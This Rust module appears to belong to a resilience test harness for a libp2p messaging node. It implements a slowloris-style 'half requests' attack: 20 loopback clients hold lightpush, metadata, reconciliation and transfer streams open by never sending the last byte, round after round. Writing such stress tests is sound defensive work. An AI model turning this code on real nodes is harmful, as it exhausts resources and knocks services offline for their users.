//! Attack c1: requests that never end.

use std::net::Ipv4Addr;
use std::time::Duration;

use futures::FutureExt as _;
use libp2p::StreamProtocol;
use tokio::time::{sleep, timeout};

use super::{Attack, Price, nothing, with_services};
use crate::node::Target;
use crate::service_client::ServiceClient;
use crate::{HostileError, Tasks, TestNetwork, asks, rpc};

/// Number of clients, each with its own address.
const ATTACKERS: u8 = 20;
/// Streams that each client has open at a time: their protocols, and the length that each request announces, bytes.
/// All but the last byte is sent. Reconciliation comes before transfer, because a transfer without a session is
/// refused.
const STREAMS: [(StreamProtocol, usize); 9] = [
    (asks::LIGHTPUSH, 1 << 20),
    (asks::LIGHTPUSH, 1 << 20),
    (asks::LIGHTPUSH, 1 << 20),
    (asks::LIGHTPUSH, 1 << 20),
    (asks::LIGHTPUSH, 1 << 20),
    (asks::LIGHTPUSH, 1 << 20),
    (asks::METADATA, 1_000),
    (asks::RECONCILIATION, 5 << 20),
    (asks::TRANSFER, 150_000),
];
/// Time for which the streams are held, and time limit of a write.
const HELD: Duration = Duration::from_secs(5);
/// Rounds of each client, enough for ten minutes.
const ROUNDS_MAX: u32 = 120;
/// Duration of the attack before messages are counted.
const RISING: Duration = Duration::from_secs(3);

/// Attack c1: half requests.
pub const ATTACK: Attack = Attack {
    name: "c1-half-requests",
    about: "180 requests at a time whose last byte never comes: lightpush of 1 MiB, metadata, reconciliation of \
            5 MiB, transfer; from 20 addresses",
    price: Price::Addresses(ATTACKERS as u32),
    options: with_services,
    start: |stage| start(stage).boxed(),
    then: nothing,
};

async fn start(stage: &mut TestNetwork) -> Result<Tasks, HostileError> {
    let mut tasks = Tasks::default();
    for n in 0..ATTACKERS {
        let from = Ipv4Addr::new(127, 0, 20, n + 1);
        tasks.spawn(hoard(from, stage.victim.target()));
    }
    sleep(RISING).await;
    Ok(tasks)
}

async fn hoard(from: Ipv4Addr, target: Target) {
    let requests = STREAMS.map(|(protocol, announced)| {
        let mut bytes = rpc::varint(announced as u64);
        bytes.resize(bytes.len() + announced - 1, 0x0a);
        (protocol, bytes)
    });
    let mut client: Option<ServiceClient> = None;
    for _ in 0..ROUNDS_MAX {
        if client.is_none() {
            client = ServiceClient::connect(from, target, None).await.ok();
        }
        let Some(connected) = &client else {
            sleep(Duration::from_secs(1)).await;
            continue;
        };
        let sending = requests
            .iter()
            .map(|(protocol, bytes)| timeout(HELD, connected.raw.send(protocol.clone(), bytes)));
        let streams = futures::future::join_all(sending).await;
        let is_served = streams.iter().any(|sent| matches!(sent, Ok(Ok(_))));
        sleep(HELD).await;
        drop(streams);
        if !is_served {
            client = None;
        }
    }
}
